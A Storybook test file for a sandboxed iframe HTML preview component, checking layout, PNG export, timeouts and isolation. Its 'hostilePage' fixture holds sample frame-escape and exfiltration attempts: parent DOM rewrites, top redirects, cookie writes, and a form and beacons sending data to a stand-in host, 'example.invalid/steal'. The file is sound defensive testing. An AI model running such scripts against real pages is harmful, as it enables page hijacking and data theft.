@@ -1,0 +1,211 @@
+import type { Meta, StoryObj } from '@storybook/react-vite';
+import { expect, fn, userEvent, waitFor, within } from 'storybook/test';
+import { HtmlView } from './HtmlView.js';
+
+const meta = {
+  title: 'Outputs/HtmlView',
+  component: HtmlView,
+  args: { html: '<p>Hello</p>', downloadPng: false },
+} satisfies Meta<typeof HtmlView>;
+
+export default meta;
+type Story = StoryObj<typeof meta>;
+
+function frameOf(canvasElement: HTMLElement): HTMLIFrameElement {
+  const frame = canvasElement.querySelector<HTMLIFrameElement>('[data-slot="html-frame"]');
+  if (!frame) throw new Error('no preview frame');
+  return frame;
+}
+
+async function waitUntilReady(canvasElement: HTMLElement): Promise<HTMLIFrameElement> {
+  await waitFor(() => expect(canvasElement.querySelector('[data-slot="html-frame-box"]')).toHaveAttribute('data-state', 'ready'), { timeout: 10_000 });
+  return frameOf(canvasElement);
+}
+
+/** Resolves with how late a chain of short timers ran: a frozen page cannot run them at all. */
+async function mainThreadLag(steps = 10, stepMs = 30): Promise<number> {
+  let worst = 0;
+  for (let index = 0; index < steps; index += 1) {
+    const started = performance.now();
+    await new Promise((resolve) => setTimeout(resolve, stepMs));
+    worst = Math.max(worst, performance.now() - started - stepMs);
+  }
+  return worst;
+}
+
+const simplePage = `<!doctype html>
+<html><head><style>body{font:16px system-ui;margin:16px} h1{color:#2453c9}</style></head>
+<body><h1>Quarterly report</h1><p>Revenue grew 12% over the previous quarter.</p>
+<ul><li>North: 4.1M</li><li>South: 3.7M</li><li>West: 2.9M</li></ul></body></html>`;
+
+export const Simple: Story = {
+  args: { html: simplePage },
+  play: async ({ canvasElement }) => {
+    const frame = await waitUntilReady(canvasElement);
+    await expect(frame.getAttribute('sandbox')).toBe('allow-scripts');
+    await expect(frame.srcdoc).toContain('Content-Security-Policy');
+    await expect(frame.srcdoc).toContain('Quarterly report');
+    // The frame follows its content: taller than the 80 px minimum, shorter than the 600 px cap.
+    await waitFor(() => expect(frame.clientHeight).toBeGreaterThan(120));
+    await expect(frame.clientHeight).toBeLessThan(600);
+  },
+};
+
+const chartPage = `<!doctype html>
+<html><head><style>body{margin:0;font:14px system-ui} button{margin:8px}</style></head>
+<body>
+<canvas id="chart" width="480" height="240" aria-label="Bar chart"></canvas><br>
+<button id="more">Add bar</button>
+<script>
+  var values = [3, 7, 4, 9];
+  function draw() {
+    var context = document.getElementById('chart').getContext('2d');
+    context.fillStyle = '#fff'; context.fillRect(0, 0, 480, 240);
+    values.forEach(function (value, index) {
+      context.fillStyle = '#2453c9';
+      context.fillRect(20 + index * 50, 240 - value * 20, 36, value * 20);
+    });
+  }
+  document.getElementById('more').addEventListener('click', function () { values.push(Math.ceil(Math.random() * 10)); draw(); });
+  draw();
+</script>
+</body></html>`;
+
+export const InteractiveChart: Story = {
+  args: { html: chartPage },
+  play: async ({ canvasElement }) => {
+    const frame = await waitUntilReady(canvasElement);
+    await waitFor(() => expect(frame.clientHeight).toBeGreaterThanOrEqual(260));
+  },
+};
+
+const tallPage = `<!doctype html><body style="margin:0"><div style="height:3000px;background:linear-gradient(#def,#fed)">tall</div></body>`;
+
+export const TallContentIsBounded: Story = {
+  args: { html: tallPage, maxHeight: 400 },
+  play: async ({ canvasElement }) => {
+    const frame = await waitUntilReady(canvasElement);
+    await waitFor(() => expect(frame.getBoundingClientRect().height).toBe(400));
+  },
+};
+
+/** Every attack a page can try from inside the frame; none may reach the page around it. */
+const hostilePage = `<!doctype html><html><body><p>hostile</p>
+<form id="f" action="https://example.invalid/steal" method="post" target="_top"><input name="x" value="1"></form>
+<script>
+  var attempts = [
+    function () { parent.document.body.innerHTML = '<h1 id="pwned">pwned</h1>'; },
+    function () { parent.document.title = 'pwned'; },
+    function () { top.location.href = 'https://example.invalid/'; },
+    function () { parent.location.hash = '#pwned'; },
+    function () { document.cookie = 'pwned=1'; },
+    function () { localStorage.setItem('pwned', '1'); },
+    function () { sessionStorage.setItem('pwned', '1'); },
+    function () { window.open('https://example.invalid/', '_blank'); },
+    function () { document.getElementById('f').submit(); },
+    function () { for (var i = 0; i < 1000; i++) alert('pwned ' + i); },
+    function () { for (var i = 0; i < 100; i++) confirm('pwned'); },
+    function () { fetch('https://example.invalid/beacon').catch(function () {}); },
+    function () { var image = new Image(); image.src = 'https://example.invalid/pixel.png'; },
+  ];
+  attempts.forEach(function (attempt) { try { attempt(); } catch (error) {} });
+</script></body></html>`;
+
+export const Hostile: Story = {
+  args: { html: hostilePage },
+  play: async ({ canvasElement }) => {
+    const before = { title: document.title, url: location.href, cookie: document.cookie, body: document.body.childElementCount };
+    await waitUntilReady(canvasElement);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    await expect(document.title).toBe(before.title);
+    await expect(location.href).toBe(before.url);
+    await expect(document.cookie).toBe(before.cookie);
+    await expect(document.getElementById('pwned')).toBeNull();
+    await expect(localStorage.getItem('pwned')).toBeNull();
+    await expect(sessionStorage.getItem('pwned')).toBeNull();
+    await expect(document.body.childElementCount).toBe(before.body);
+    await expect(await mainThreadLag()).toBeLessThan(200);
+  },
+};
+
+// Busy for 4 s rather than forever: Chromium runs all sandboxed frames of a page in one process, so a
+// frame that never yields would also stall the frames of the stories after this one.
+export const InfiniteLoop: Story = {
+  args: { html: '<!doctype html><p>spinning</p><script>setTimeout(function () { var end = Date.now() + 4000; while (Date.now() < end) {} }, 0);</script>' },
+  play: async ({ canvasElement }) => {
+    await waitFor(() => expect(canvasElement.querySelector('[data-slot="html-frame"]')).not.toBeNull());
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    // The frame runs in its own process: the page's timers keep firing while the frame spins.
+    await expect(await mainThreadLag()).toBeLessThan(200);
+    const button = within(canvasElement).getByRole('button', { name: 'Download HTML' });
+    await expect(button).toBeEnabled();
+    // Let the busy frame finish, so the next story's frames start on an idle process.
+    await new Promise((resolve) => setTimeout(resolve, 4_000));
+  },
+};
+
+export const HugeDom: Story = {
+  args: {
+    html: '<!doctype html><body><script>var root = document.createElement("div"); for (var i = 0; i < 30000; i++) { var row = document.createElement("div"); row.textContent = "row " + i; root.appendChild(row); } document.body.appendChild(root);</script></body>',
+  },
+  play: async ({ canvasElement }) => {
+    await expect(await mainThreadLag()).toBeLessThan(200);
+    const frame = frameOf(canvasElement);
+    // The content is about a million pixels tall; the frame stays at the cap and scrolls inside.
+    await waitFor(() => expect(frame.getBoundingClientRect().height).toBe(600), { timeout: 12_000 });
+    await expect(await mainThreadLag()).toBeLessThan(200);
+  },
+};
+
+export const PngExport: Story = {
+  args: { html: simplePage, onPngExport: fn() },
+  play: async ({ canvasElement, args }) => {
+    const frame = await waitUntilReady(canvasElement);
+    await waitFor(() => expect(frame.clientHeight).toBeGreaterThan(120));
+    await userEvent.click(within(canvasElement).getByRole('button', { name: 'Download PNG' }));
+    await waitFor(() => expect(args.onPngExport).toHaveBeenCalledTimes(1), { timeout: 10_000 });
+    const png = (args.onPngExport as ReturnType<typeof fn>).mock.calls[0]?.[0] as { blob: Blob; width: number; height: number };
+    await expect(png.blob.type).toBe('image/png');
+    const bitmap = await createImageBitmap(png.blob);
+    await expect({ width: bitmap.width, height: bitmap.height }).toEqual({ width: frame.clientWidth, height: frame.clientHeight });
+  },
+};
+
+export const PngExportTimesOut: Story = {
+  args: {
+    // The page blocks its own event loop for 4 s as soon as a capture is asked for: the answer comes too late.
+    html: '<!doctype html><p>busy</p><script>addEventListener("message", function () { var end = Date.now() + 4000; while (Date.now() < end) {} });</script>',
+    captureTimeoutMs: 1_500,
+    labels: { exportFailed: 'No image this time.' },
+    onPngExport: fn(),
+  },
+  play: async ({ canvasElement, args }) => {
+    await waitUntilReady(canvasElement);
+    await userEvent.click(within(canvasElement).getByRole('button', { name: 'Download PNG' }));
+    await waitFor(() => expect(within(canvasElement).getByRole('status')).toHaveTextContent('No image this time.'), { timeout: 5_000 });
+    await expect(args.onPngExport).not.toHaveBeenCalled();
+    await expect(within(canvasElement).getByRole('button', { name: 'Download PNG' })).toBeEnabled();
+  },
+};
+
+class NeverLoadingBlob extends Blob {
+  override text(): Promise<string> {
+    return new Promise(() => undefined);
+  }
+}
+
+export const Loading: Story = {
+  args: { html: new NeverLoadingBlob(['<p>never</p>']) },
+  play: async ({ canvasElement }) => {
+    await expect(within(canvasElement).getByText('Loading preview…')).toBeVisible();
+    await expect(canvasElement.querySelector('iframe')).toBeNull();
+  },
+};
+
+export const LoadError: Story = {
+  // Nothing listens on port 1: the fetch fails for real.
+  args: { html: undefined, src: 'http://127.0.0.1:1/page.html' },
+  play: async ({ canvasElement }) => {
+    await waitFor(() => expect(within(canvasElement).getByRole('alert')).toHaveTextContent('The preview could not be loaded:'), { timeout: 10_000 });
+  },
+};
